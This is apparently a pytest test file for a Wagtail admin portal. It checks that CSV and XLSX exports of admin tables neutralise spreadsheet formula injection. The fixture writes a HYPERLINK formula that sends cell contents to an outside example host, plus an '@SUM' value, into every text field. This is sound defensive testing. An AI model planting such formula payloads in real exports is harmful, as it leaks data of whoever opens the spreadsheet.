"""Every list and report of the admin that can be taken away as a table gives text as text."""

import csv
import io
from datetime import UTC, datetime

import openpyxl
import pytest
from django.urls import get_resolver
from wagtail.admin.views import mixins
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log
from wagtail.models import Page

from industries.tests.factories import EnterpriseFactory
from portal.accounts.tests.factories import make_administrator, make_editor
from portal.core.spreadsheets.cells import looks_like_formula
from portal.imports.enums import EventKind
from portal.imports.models import ImportEvent
from tests.admin_objects import AdminObjects
from tests.admin_routes import admin_routes, walk

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("https://example.org/?"&A1)'
# Texts a view looks up a word for; only that word is in its table.
CODES = {"action"}
# These show something of the objects of the test, so that their cells are seen to be made plain.
NEVER_EMPTY = {
    "admin/imports/",
    "admin/redirects/",
    "admin/reports/aging-pages/",
    "admin/reports/site-history/",
    "admin/snippets/industries/enterprise/",
}


def exporting_routes():
    """Return the addresses of the admin whose views can answer with a table."""
    views = {
        route: getattr(pattern.callback, "view_class", object)
        for route, pattern in walk(get_resolver())
        if route.startswith("admin/")
    }
    return {
        route: address
        for route, address in admin_routes().items()
        if isinstance(views.get(route), type) and issubclass(views[route], SpreadsheetExportMixin)
    }


def cells_of(response, export_format):
    """Return the cells below the headings; those of a workbook with their types."""
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return [cell for row in list(csv.reader(io.StringIO(content.decode())))[1:] for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows(min_row=2) for cell in row]


@pytest.fixture
def attacked(monkeypatch):
    """Have every text of every record be a formula."""
    read = mixins.multigetattr

    def text_as_attack(item, path):
        value = read(item, path)
        return ATTACK if isinstance(value, str) and path not in CODES else value

    objects = AdminObjects()
    Page.objects.update(last_published_at=datetime(2026, 1, 1, tzinfo=UTC))
    log(objects.section, "wagtail.edit", user=objects.person)
    monkeypatch.setattr(mixins, "multigetattr", text_as_attack)
    return objects


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_no_table_of_the_admin_holds_a_formula(client, attacked, export_format):
    client.force_login(make_administrator())
    guarded = set()
    for route, address in exporting_routes().items():
        response = client.get(attacked.address_of(address), {"export": export_format})
        if response.status_code != 200 or not response.has_header("Content-Disposition"):
            continue
        for cell in cells_of(response, export_format):
            if export_format == "csv":
                assert not looks_like_formula(cell), route
                guarded |= {route} if cell == f"'{ATTACK}" else set()
            else:
                assert cell.data_type != "f", route
                guarded |= {route} if cell.value == ATTACK else set()
    assert sorted(NEVER_EMPTY - guarded) == []


def test_a_table_of_enterprises_is_harmless_and_its_taking_away_written_down(client):
    EnterpriseFactory(name=ATTACK, legal_name="@SUM(1)", inn="", retired_on=None)
    editor = make_editor()
    client.force_login(editor)
    for address, name in (
        ("/admin/snippets/industries/enterprise/", "enterprises"),
        ("/admin/reports/enterprises/", "enterprise-gaps"),
    ):
        cells = cells_of(client.get(address, {"export": "csv", "q": ""}), "csv")
        assert f"'{ATTACK}" in cells
        event = ImportEvent.objects.order_by("pk").last()
        assert (event.kind, event.event, event.person) == ("enterprises", EventKind.EXPORTED, editor)
        assert event.detail == f"{name}.csv?q="
        client.get(address)
    assert ImportEvent.objects.count() == 2


def test_what_no_workbook_can_hold_is_left_out(client):
    EnterpriseFactory(name="Завод\x0bодин", legal_name="")
    client.force_login(make_editor())
    cells = cells_of(client.get("/admin/snippets/industries/enterprise/", {"export": "xlsx"}), "xlsx")
    assert cells[0].value == "Завододин"
